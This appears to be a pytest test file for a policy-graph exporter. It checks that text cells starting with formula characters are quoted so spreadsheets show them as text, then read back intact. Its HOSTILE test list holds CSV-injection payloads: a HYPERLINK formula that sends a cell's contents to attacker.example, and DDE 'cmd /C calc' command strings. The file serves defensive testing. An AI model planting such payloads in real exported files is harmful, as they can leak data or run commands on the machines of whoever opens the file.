"""No CSV cell that policygraph writes can run as a spreadsheet formula (OWASP "CSV Injection").

A sentence from a PDF may begin with = + - @ (or a tab): in nodes.csv and
edges.csv such a cell gets a leading ' so that Excel, LibreOffice and Google
Sheets show it as text; the project's own reader takes the ' off again.
"""

from __future__ import annotations

import csv

import networkx as nx
import pytest

from pipeline.export import read_neo4j_csv
from pipeline.export.common import FORMULA_TRIGGERS, neutralise_formula, restore_formula
from pipeline.export.neo4j_csv import write_neo4j_csv

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'already quoted",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_would_run_is_written_as_text_and_read_back_unchanged(text):
    cell = neutralise_formula(text)
    assert cell.startswith("'")
    assert restore_formula(cell) == text


def test_plain_text_is_left_as_it_is():
    assert neutralise_formula("The EU should act.") == "The EU should act."
    assert restore_formula("The EU should act.") == "The EU should act."


def test_nodes_and_edges_csv_hold_no_live_formula_and_read_back_whole(tmp_path):
    graph = nx.MultiDiGraph()
    for number, text in enumerate(HOSTILE):
        graph.add_node(f"measure:{number}", kind="measure", label=text, score=-0.5)
        graph.add_edge("actor:eu", f"measure:{number}", key=f"e{number}", type="ADDRESSED_TO", sentence=text)
    graph.nodes["actor:eu"].update(kind="actor", label="=European Union")
    nodes, edges = tmp_path / "nodes.csv", tmp_path / "edges.csv"

    write_neo4j_csv(graph, nodes, edges)

    for path in (nodes, edges):
        with path.open(newline="", encoding="utf-8") as handle:
            rows = list(csv.reader(handle))
        header, body = rows[0], rows[1:]
        numeric = {i for i, name in enumerate(header) if name.endswith((":double", ":int", ":long"))}
        for row in body:
            for index, cell in enumerate(row):
                if index not in numeric:
                    assert not cell.startswith(FORMULA_TRIGGERS), (path.name, cell)
    back = read_neo4j_csv(nodes, edges)
    assert {n: d["label"] for n, d in back.nodes(data=True)} == {
        n: d["label"].replace("\r", "\n") for n, d in graph.nodes(data=True)}
    # a carriage return is written as the line break it stands for
    expected = sorted(text.replace("\r", "\n") for text in HOSTILE)
    assert sorted(d["sentence"] for *_, d in back.edges(keys=True, data=True)) == expected
    assert back.nodes["measure:0"]["score"] == -0.5  # numbers stay numbers
